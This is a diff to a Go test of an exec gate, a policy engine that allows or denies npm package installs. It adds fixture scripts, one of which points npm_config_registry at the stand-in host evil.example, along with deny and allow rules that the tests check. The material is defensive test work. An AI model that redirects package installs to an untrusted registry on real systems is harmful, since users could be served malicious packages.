@@ -1222,6 +1222,10 @@ func TestExecGateDecidesInstalls(t *testing.T) {
 		"bin/npm":    "#!/bin/sh\necho \"$@\" > " + marker + "\n",
 		"install.sh": "#!/bin/sh\nnpm i lodash\necho rc=$?\n",
 		"build.sh":   "#!/bin/sh\nnpm run build\necho rc=$?\n",
+		// The index in the program's environment, not its argv.
+		"env.sh":   "#!/bin/sh\nexport npm_config_registry=http://evil.example/\nnpm i lodash\necho rc=$?\n",
+		"unset.sh": "#!/bin/sh\nunset npm_config_registry\nnpm i lodash\necho rc=$?\n",
+		"same.sh":  "#!/bin/sh\nexport npm_config_registry=\"$npm_config_registry\"\nnpm i lodash\necho rc=$?\n",
 	}
 	for name, body := range files {
 		if err := os.MkdirAll(filepath.Dir(filepath.Join(ws, name)), 0o755); err != nil {
@@ -1236,6 +1240,9 @@ func TestExecGateDecidesInstalls(t *testing.T) {
 		denyLodash = "\n[[rules.deny]]\nrule_id = \"no-lodash\"\ncapability = \"package.install\"\ntarget = { resource = \"lodash\" }\n"
 		allowIndex = "\n[[rules.allow]]\nrule_id = \"npm-index\"\ncapability = \"package.install\"\ntarget = { host = \"*\" }\n" +
 			"[[rules.allow]]\nrule_id = \"exec\"\ncapability = \"process.exec\"\n"
+		npmIndex = "\n[[rules.allow]]\nrule_id = \"npm-index\"\ncapability = \"package.install\"\ntarget = { host = \"registry.npmjs.org\" }\n" +
+			"[[rules.allow]]\nrule_id = \"exec\"\ncapability = \"process.exec\"\n"
+		denyEvil = "\n[[rules.deny]]\nrule_id = \"no-evil\"\ncapability = \"package.install\"\ntarget = { host = \"evil.example\" }\n"
 	)
 	line := "PATH=" + ws + "/bin:$PATH ./install.sh"
 	tests := []struct {
@@ -1251,6 +1258,11 @@ func TestExecGateDecidesInstalls(t *testing.T) {
 		{"strict-production's mode", `profile = "strict-production"` + "\n[[rules.allow]]\nrule_id = \"exec\"\ncapability = \"process.exec\"\n", line, false, false, "mode"},
 		{"strict-production, an allow rule", `profile = "strict-production"` + allowIndex, line, false, true, ""},
 		{"no install: npm run", `profile = "interactive-dev"` + denyLodash, "PATH=" + ws + "/bin:$PATH ./build.sh", false, true, ""},
+		// An index only the program's environment names is decided.
+		{"strict-production, the npm registry allowed", `profile = "strict-production"` + npmIndex, "PATH=" + ws + "/bin:$PATH ./same.sh", false, true, ""},
+		{"strict-production, another registry in the environment", `profile = "strict-production"` + npmIndex, "PATH=" + ws + "/bin:$PATH ./env.sh", false, false, "mode"},
+		{"strict-production, the registry pin removed", `profile = "strict-production"` + npmIndex, "PATH=" + ws + "/bin:$PATH ./unset.sh", false, false, "mode"},
+		{"a deny rule on the environment's registry", `profile = "interactive-dev"` + denyEvil, "PATH=" + ws + "/bin:$PATH ./env.sh", false, false, "no-evil"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
